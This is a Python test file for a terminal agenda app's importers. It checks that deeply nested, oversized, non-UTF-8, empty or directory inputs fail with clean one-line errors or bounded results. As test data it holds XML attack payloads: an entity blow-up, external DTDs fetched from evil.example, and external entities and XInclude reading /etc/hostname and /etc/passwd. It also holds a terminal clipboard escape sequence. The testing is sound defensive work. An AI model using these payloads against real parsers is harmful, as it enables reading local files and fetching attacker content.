"""Files built to break a reader: deep nesting, XML entity tricks, huge titles, a 100,000
session agenda, bytes that are not UTF-8, an empty file, a directory. Each one ends in a
clear error or a bounded result. (Billion laughs, one external entity, a bare DTD, oversize
files and malformed files are in tests/unit/test_import_*.py and test_validation.py.)"""

from __future__ import annotations

from datetime import datetime, timedelta
from pathlib import Path

import pytest

from agenda_tui.agenda_file import load_agenda, parse_agenda
from agenda_tui.cli import main
from agenda_tui.errors import AgendaError, InvalidFileError
from agenda_tui.importing import import_source
from agenda_tui.state_file import StateFile
from tests.conftest import TEST_DATA
from tests.reliability.support import IMPORT_DATA, assert_one_line_messages
from tests.tui.conftest import active_table, build_app, started

DEEP = 100_000
FRAB = (IMPORT_DATA / "frab-small.xml").read_bytes()
JSON = (IMPORT_DATA / "schedule-small.json").read_bytes()
ICS = (IMPORT_DATA / "feed-small.ics").read_bytes()
TINY = (TEST_DATA / "tiny.toml").read_text(encoding="utf-8")

# "Nothing hangs": a test still running after this long has hung and fails. The bound is
# far above any real run (speed is measured by `make bench`, not asserted here).
pytestmark = pytest.mark.timeout(300)


def refused(call, *args, **kwargs) -> list[str]:
    with pytest.raises(AgendaError) as caught:
        call(*args, **kwargs)
    assert_one_line_messages(caught.value)
    return caught.value.lines()


def _in_first_title(data: bytes, opening: bytes, closing: bytes, inner: bytes) -> bytes:
    start = data.index(opening) + len(opening)
    return data[:start] + inner + data[start:]


# -- nesting ----------------------------------------------------------------------

@pytest.mark.parametrize(("format", "data"), [
    ("json", b'{"schedule": ' + b"[" * DEEP + b"]" * DEEP + b"}"),
    ("json", b'{"a":' * DEEP + b"1" + b"}" * DEEP),
    ("frab", _in_first_title(FRAB, b"<title>", b"</title>", b"<b>" * DEEP + b"</b>" * DEEP)),
    ("frab", b"<schedule>" + b"<a>" * DEEP + b"</a>" * DEEP + b"</schedule>"),
    ("ics", b"BEGIN:VCALENDAR\r\n" + b"BEGIN:X\r\n" * 20_000 + b"END:X\r\n" * 20_000
     + b"END:VCALENDAR\r\n"),
], ids=["json-arrays", "json-objects", "xml-in-a-title", "xml-elements", "ics-components"])
def test_deeply_nested_imports_are_refused_or_bounded(format, data):
    try:
        import_source(data, format=format, timezone="Europe/Berlin")
    except AgendaError as error:
        assert_one_line_messages(error)


@pytest.mark.parametrize("text", ["a = " + "[" * DEEP + "]" * DEEP,
                                  "a = " + "{b = " * 5000 + "1" + "}" * 5000],
                         ids=["arrays", "inline-tables"])
def test_deeply_nested_agenda_toml_is_refused(text):
    assert refused(parse_agenda, text, "deep.toml") == [
        "deep.toml: malformed TOML: nested too deeply to read"]


def test_deeply_nested_state_file_is_moved_aside(tmp_path: Path):
    path = tmp_path / "conf.toml"
    content = ("bookmarks = " + "[" * DEEP + "]" * DEEP).encode()
    path.write_bytes(content)
    store = StateFile(path, "conf")
    [warning] = store.take_warnings()
    assert "nested too deeply" in warning
    [aside] = tmp_path.glob("conf.toml.corrupt-*")
    assert aside.read_bytes() == content


# -- XML entity tricks beyond the billion laughs ----------------------------------

@pytest.mark.parametrize("document", [
    # quadratic blow-up: one big entity used many times
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "' + b"x" * 50_000 + b'">]><schedule>'
    + b"&a;" * 50_000 + b"</schedule>",
    # a parameter entity fetching a remote DTD
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % r SYSTEM "http://evil.example/x.dtd"> %r;]>'
    b"<schedule/>",
    # an external DTD
    b'<?xml version="1.0"?><!DOCTYPE schedule SYSTEM "http://evil.example/s.dtd"><schedule/>',
    # an external entity inside an event title
    b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    b"<schedule><conference><title>&e;</title></conference></schedule>",
    # XInclude is not processed
    b'<schedule xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"'
    b' parse="text"/></schedule>',
], ids=["quadratic", "parameter-entity", "external-dtd", "external-entity-in-title", "xinclude"])
def test_xml_entity_tricks_are_refused_and_nothing_is_fetched(document):
    lines = refused(import_source, document, format="frab", timezone="Europe/Berlin")
    assert not any("root:" in line for line in lines)


# -- size ------------------------------------------------------------------------

MEGABYTES = 5


def test_multi_megabyte_titles_are_bounded():
    title = "A" * (MEGABYTES * 1024 * 1024)
    agenda = parse_agenda(TINY.replace('title = "Opening"', f'title = "{title}"'))
    assert agenda.sessions_by_id["opening"].title == title
    imported = import_source(FRAB.replace(b"<title>", b"<title>" + title.encode(), 1),
                             format="frab")
    assert imported.agenda.conference.title.startswith(title)


async def test_a_megabyte_title_opens_in_the_app(tmp_path: Path):
    title = "Very long title " + "W" * (1024 * 1024)
    path = tmp_path / "long.toml"
    path.write_text(TINY.replace('title = "Opening"', f'title = "{title}"'), encoding="utf-8")
    app = build_app(tmp_path / "state", agenda_path=path,
                    at=datetime(2024, 3, 9, 9, 15, tzinfo=load_agenda(path).zone))
    async with started(app, (100, 30)) as pilot:
        await pilot.press("j", "k", "enter")
        await pilot.pause()
        await pilot.press("escape")
        await pilot.pause()
        assert active_table(app).current_session_id == "opening"
        await pilot.press("ctrl+p")  # the palette searches it as you type
        await pilot.pause(0.3)
        await pilot.press(*"long tit")
        await pilot.pause(0.5)
        await pilot.press("escape")
        await pilot.pause()


def hundred_thousand_sessions() -> str:
    lines = ["schema_version = 1", "[conference]", 'id = "big"', 'title = "Big"',
             "start_date = 2024-03-11", "end_date = 2024-03-17", 'timezone = "Europe/Berlin"']
    base = datetime(2024, 3, 11, 8, 0)
    for number in range(100_000):
        start = base + timedelta(days=number % 7, minutes=number // 7 % 600)
        lines += ["[[sessions]]", f'id = "s-{number}"', f"start = {start.isoformat()}",
                  f"end = {(start + timedelta(minutes=30)).isoformat()}", f'title = "Session {number}"']
    return "\n".join(lines) + "\n"


@pytest.mark.slow
def test_a_100000_session_agenda_loads_in_bounded_time(tmp_path: Path, capsys):
    path = tmp_path / "big.toml"
    path.write_text(hundred_thousand_sessions(), encoding="utf-8")
    with pytest.raises(SystemExit) as caught:
        main(["validate", str(path)])
    assert caught.value.code == 0
    assert "100000 sessions on 7 days" in capsys.readouterr().out


# -- bytes, emptiness, directories ----------------------------------------------

@pytest.mark.parametrize(("format", "data"), [
    ("frab", FRAB.replace(b"<title>", b"<title>\xff\xfe", 1)),
    ("json", JSON.replace(b'"title"', b'"ti\xe9tle"', 1)),
    ("ics", ICS.replace(b"SUMMARY:", b"SUMMARY:\xc3\x28", 1)),
    ("auto", b"\xff\xfe\x00<\x00s\x00"),
], ids=["frab", "json", "ics", "auto"])
def test_bytes_that_are_not_utf8(format, data):
    try:
        result = import_source(data, format=format, timezone="Europe/Lisbon")
    except AgendaError as error:
        assert_one_line_messages(error)
        return
    # iCalendar readers are lenient: a bad byte may be replaced, never passed on raw.
    assert all(session.title.isprintable() for session in result.agenda.sessions)


@pytest.mark.parametrize("format", ["auto", "frab", "json", "ics"])
def test_an_empty_import(format, tmp_path: Path):
    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    assert refused(import_source, empty, format=format)


def test_an_empty_agenda_and_an_empty_state_file(tmp_path: Path):
    empty = tmp_path / "empty.toml"
    empty.write_bytes(b"")
    assert refused(load_agenda, empty) == [f"{empty}: conference: required key is missing"]
    store = StateFile(empty, "conf")  # an empty state: nothing to say, nothing moved or copied
    assert store.take_warnings() == [] and store.state.bookmarks == []
    assert not list(tmp_path.glob("empty.toml.[ac]*")) and empty.read_bytes() == b""
    assert store.toggle_bookmark("a") is True and StateFile(empty, "conf").state.bookmarks == ["a"]


@pytest.mark.parametrize("format", ["auto", "frab", "json", "ics"])
def test_a_directory_given_as_a_schedule(format, tmp_path: Path):
    assert refused(import_source, tmp_path, format=format) == [f"{tmp_path}: is a directory, not a file"]


def test_a_directory_given_as_the_state_file(tmp_path: Path):
    directory = tmp_path / "conf.toml"
    directory.mkdir()
    (directory / "keep").write_text("mine")
    store = StateFile(directory, "conf")
    warnings = store.take_warnings()
    assert warnings and all(len(warning.splitlines()) == 1 for warning in warnings)
    [aside] = list(tmp_path.glob("conf.toml.corrupt-*"))  # moved aside whole, and said where
    assert str(aside) in warnings[0]
    assert (aside / "keep").read_text() == "mine"
    assert store.toggle_bookmark("a") is True  # the session goes on, saving to a new file
    assert StateFile(directory, "conf").state.bookmarks == ["a"]


@pytest.mark.parametrize("command", [["validate"], ["import"], ["list", "--agenda"],
                                     ["diff", str(TEST_DATA / "tiny.toml")]])
def test_the_cli_given_a_directory_exits_2_with_one_line(command, tmp_path: Path, capsys):
    with pytest.raises(SystemExit) as caught:
        main([*command, str(tmp_path)])
    out, err = capsys.readouterr()
    assert caught.value.code == 2, err
    assert len(err.splitlines()) == 1 and "directory" in err
    assert "Traceback" not in err


def test_invalid_file_error_lines_survive_a_hostile_source_name():
    error = InvalidFileError.single("evil\n\x1b[2Jname.xml", "is a directory, not a file")
    assert_one_line_messages(error)


def test_an_id_holding_terminal_controls_is_refused_in_one_clean_line():
    text = (TEST_DATA / "tiny.toml").read_text().replace(
        'id = "opening"', 'id = "evil-\\u001b]52;c;ZXZp\\u0007"')
    with pytest.raises(InvalidFileError) as caught:
        parse_agenda(text, "hostile.toml")
    [line] = caught.value.lines()
    assert line == ("hostile.toml:27: sessions[0].id: an id cannot hold spaces, "
                    "control, bidi or zero-width characters")
